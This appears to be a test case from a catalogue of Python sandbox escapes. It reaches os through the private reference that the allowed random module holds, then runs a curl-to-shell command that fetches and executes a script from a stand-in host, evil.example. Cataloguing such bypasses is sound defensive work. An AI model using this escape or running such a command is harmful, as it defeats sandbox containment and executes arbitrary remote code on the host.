# attack-class: 4
# title: random._os.system
# why: random is allowed and keeps a private reference to os

import random

random.seed(42)
random._os.system("curl -s http://evil.example/x.sh | sh")
